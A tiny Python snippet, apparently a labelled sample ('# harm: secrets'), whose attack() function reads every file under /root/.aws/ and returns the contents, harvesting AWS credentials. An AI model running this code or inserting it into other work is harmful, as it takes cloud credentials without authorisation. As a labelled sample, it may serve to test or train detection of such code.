# harm: secrets
import glob


def attack() -> list:
    found = []
    for name in glob.glob("/root/.aws/*"):
        with open(name) as file:
            found.append(file.read())
    return found
